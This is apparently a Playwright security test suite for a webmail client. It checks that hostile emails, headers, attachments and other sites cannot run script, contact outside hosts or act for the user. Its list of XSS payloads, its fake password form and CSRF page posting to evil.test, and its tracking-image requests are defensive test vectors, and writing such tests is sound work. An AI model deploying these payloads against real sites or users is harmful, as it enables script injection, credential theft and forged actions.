"""What strangers send and other sites try: nothing runs, nobody else is asked, nobody acts in another's name."""

import json
import re

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.letters import letter, raw_html, with_file, written
from tests.browser.window import Guest, Windows, mailbox, open_row, rows
from tests.message.test_sanitize import VECTORS

RUN = "top.pwned=1;parent.pwned=1;window.pwned=1;alert(1)"
HOSTILE = [
    *(vector.replace("alert(1)", RUN) for vector in VECTORS),
    f'<img src=x onerror="{RUN}">',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<a href="javascript:{RUN}" id=bait>bait</a>',
    '<base href="https://evil.test/"><a href="inbox">bait</a>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red;opacity:.01">cover</div>',
    '<form action="https://evil.test/" target=_top><input name=password autofocus><button>Sign in</button></form>',
    "<link rel=dns-prefetch href=//evil.test><link rel=preload as=image href=//evil.test/p.png>",
    '<p style="font-family:x;background:#fff url(https://evil.test/b.png)">x</p>',
    '<table background="https://evil.test/t.png"><tr><td>x</td></tr></table>',
    '<img src="//evil.test/schemeless.png"><img srcset="https://evil.test/set.png 1x">',
    '<input type=image src="https://evil.test/i.png"><video poster="https://evil.test/v.png"></video>',
    f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "</div></body></html><script>top.pwned=1</script><!--",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
]
STOPPED = ("Content Security Policy", "sandboxed")
TOGETHER = 15
PWNED = """() => {
  const all = (one) => { try { return one.pwned || Array.from(one).some(all) } catch { return false } };
  return Boolean(all(window));
}"""


def unharmed(page: Page, windows: Windows) -> None:
    """No script ran in the page or any frame, nobody else was asked for anything, and the page works."""
    assert not page.evaluate(PWNED)
    assert windows.strangers == []
    assert page.url.startswith(windows.address)


def works(page: Page) -> None:
    """The page still does what it should."""
    mailbox(page, "archive").click()
    expect(page.get_by_test_id("empty")).to_be_visible()
    page.keyboard.press("c")
    compose = page.get_by_test_id("compose")
    expect(compose.get_by_role("combobox", name="To")).to_be_focused()
    page.keyboard.press("Escape")
    expect(compose).to_have_count(0)


def loaded(page: Page, frames: int) -> None:
    """All messages of a conversation are there, each in its frame."""
    expect(page.get_by_test_id("html-frame")).to_have_count(frames)
    page.wait_for_function(
        "() => Array.from(document.querySelectorAll('[data-testid=html-frame]'))"
        ".every(frame => frame.contentDocument && frame.contentDocument.readyState === 'complete')"
    )


def test_hostile_letters(windows: Windows, you: Guest) -> None:
    threads = [HOSTILE[start : start + TOGETHER] for start in range(0, len(HOSTILE), TOGETHER)]
    for number, some in enumerate(threads, 1):
        first = number * 100
        you.put(*(raw_html(f"Trap {number}", one, first + at, first if at else 0) for at, one in enumerate(some)))
    page = windows.signed_in(you)
    expect(rows(page)).to_have_count(len(threads))
    for number, some in enumerate(threads, 1):
        open_row(page, f"Trap {number}")
        loaded(page, len(some))
        unharmed(page, windows)
        page.keyboard.press("u")
    works(page)


HEADERS = f'"><script>{RUN}</script><img src=x onerror="{RUN}">'


def test_hostile_words(windows: Windows, you: Guest) -> None:
    """In subjects, names, addresses, file names, mailbox names, plain text and what a search shows of them."""
    text = f'{HEADERS}\njavascript:{RUN}\nhttps://else.test/"onmouseover="{RUN}\n<mark>foghorn</mark>'
    plain = written(f"{HEADERS} foghorn", text, sender=f"'{HEADERS.replace(chr(34), '')}' <m@evil.test>")
    plain.add_attachment(b"x", maintype="text", subtype="html", filename=HEADERS)
    you.put(plain.as_bytes())
    you.put(letter("Filed"), mailbox="<img src=x onerror=alert(1)>")
    page = windows.signed_in(you)
    expect(rows(page, "foghorn")).to_be_visible()
    rows(page, "foghorn").click()
    expect(page.get_by_test_id("attachments")).to_contain_text("<script>")
    assert page.get_by_test_id("body").locator("a[href^=javascript]").count() == 0
    unharmed(page, windows)
    page.get_by_role("button", name="Reply", exact=True).last.click()
    expect(page.get_by_test_id("compose").get_by_label("Message", exact=True)).to_have_value(re.compile("> .*<script>"))
    page.keyboard.press("Escape")
    mailbox(page, "<img src=x onerror=alert(1)>").click()
    expect(rows(page, "Filed")).to_be_visible()
    page.goto("/search?q=" + "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%20in%3Aanywhere")
    expect(page.get_by_role("searchbox")).to_have_value("<img src=x onerror=alert(1)> in:anywhere")
    unharmed(page, windows)
    works(page)


@pytest.mark.parametrize("images", [False, True])
def test_each_wall_stands_alone(windows: Windows, you: Guest, images: bool) -> None:
    """Were the server to clean nothing, the second cleaning, the frame and the policies would still hold."""
    you.put(letter("Wolf", html='<p>Sheep <img src="https://pictures.test/a.png"></p>'))
    page = windows.signed_in(you)

    def answer(route: Route) -> None:
        kept = route.fetch()
        route.fulfill(response=kept, body=f"<!doctype html><body>{''.join(HOSTILE[:12] + HOSTILE[-13:])}</body>")

    windows.strangers_welcome = images
    page.route("**/jmap/html/**" + ("images=1*" if images else ""), answer)
    open_row(page, "Wolf")
    loaded(page, 1)
    if images:
        page.get_by_role("button", name="Show images").click()
        expect(page.frame_locator("[data-testid=html-frame]").get_by_text("cover")).to_be_attached()
        loaded(page, 1)
        # Pictures were asked for; scripts, frames and forms were stopped by the policy or the sandbox.
        assert {url.rpartition(".")[2] for url in windows.strangers if "evil.test" in url} <= {"png"}
        windows.strangers.clear()
    unharmed(page, windows)
    works(page)
    # The browser tells of what the policies stopped, also of what stood in markup that was never shown.
    windows.problems[:] = [one for one in windows.problems if not any(wall in one for wall in STOPPED)]


def test_html_files_do_not_open_here(windows: Windows, you: Guest) -> None:
    you.put(with_file("Page", "page.html", f"<script>{RUN}</script>".encode(), "text/html"))
    page = windows.signed_in(you)
    open_row(page, "Page")
    link = page.get_by_role("link", name="Download page.html")
    address = link.get_attribute("href") or ""
    answer = page.request.get(address)
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("secure", [False, True])
def test_the_cookie(windows: Windows, you: Guest, secure: bool) -> None:
    page = windows.signed_in(you, secure=secure)
    (cookie,) = page.context.cookies()
    assert cookie["name"] == ("__Host-pillarbox" if secure else "pillarbox")
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert cookie["secure"] is secure
    assert page.evaluate("document.cookie") == ""


EVIL = """<!doctype html><meta charset=utf-8><form method=post enctype=text/plain action="{api}">
<input name='{name}' value='"}}'></form><iframe src="{home}"></iframe><p>evil</p>"""


def test_other_sites_cannot_act(windows: Windows, you: Guest) -> None:
    """A page on another port of the same host has the cookie on its side, and still cannot use it."""
    you.put(letter("Precious"))
    page = windows.signed_in(you)
    expect(rows(page, "Precious")).to_be_visible()
    session = page.request.get("/.well-known/jmap").json()
    account = session["primaryAccounts"]["urn:ietf:params:jmap:mail"]
    call = {
        "using": ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail"],
        "methodCalls": [["Mailbox/set", {"accountId": account, "create": {"x": {"name": "Evil"}}}, "c"]],
    }
    api = f"{windows.address}/jmap/api"
    assert page.request.post(api, data=call).status == 403  # with the cookie, without the webmail's own header
    evil = page.context.new_page()
    body = EVIL.format(api=api, home=windows.address, name=json.dumps(call)[:-1] + ',"x":"')
    windows.strangers_welcome = True
    evil.route("http://127.0.0.1:9/", lambda route: route.fulfill(body=body, content_type="text/html"))
    evil.goto("http://127.0.0.1:9/")
    for headers in ({}, {"X-Pillarbox": "1"}):
        tried = evil.evaluate(
            "([api, body, headers]) => fetch(api, {method: 'POST', credentials: 'include', headers, body})"
            ".then(answer => answer.status, error => String(error))",
            [api, json.dumps(call), headers],
        )
        assert tried == "TypeError: Failed to fetch"
    with evil.expect_response(api) as answered:
        evil.evaluate("document.forms[0].submit()")
    assert answered.value.status == 403
    assert [frame for frame in evil.frames if frame.url.startswith(windows.address + "/mail")] == []
    assert mailbox(page, "Evil").count() == 0
    # The browser told of what it stopped: reading across origins, and framing.
    windows.problems[:] = [one for one in windows.problems if "CORS policy" not in one and "frame" not in one]


def test_the_policy_of_the_page(windows: Windows, you: Guest) -> None:
    page = windows.new()
    answer = page.goto("/")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["script-src"] == "'self'"
    assert rules["frame-ancestors"] == "'none'"
    assert rules["base-uri"] == "'none'"
    assert "http" not in rules["img-src"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    expect(page.get_by_role("form", name="Sign in")).to_be_visible()
    assert windows.problems == []
